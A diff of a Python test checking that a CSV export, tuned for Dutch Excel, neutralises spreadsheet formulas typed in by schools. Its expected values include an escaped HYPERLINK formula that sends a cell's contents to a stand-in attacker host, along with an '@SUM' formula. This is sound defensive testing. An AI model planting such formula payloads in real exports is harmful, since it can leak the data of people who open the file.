@@ -382,6 +382,9 @@ def test_csv_export_neutralises_formulas_in_what_schools_typed(admin_client, hou
 
     response = admin_client.get(INDEX, {"export": "csv"})
 
-    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    content = b"".join(response.streaming_content)
+    # Dutch Excel: a UTF-8 byte order mark (else "coördinator" is garbled) and ";" between columns.
+    assert content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0]["Contactpersoon"] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
     assert "'@SUM(1+1)" in rows[0].values()
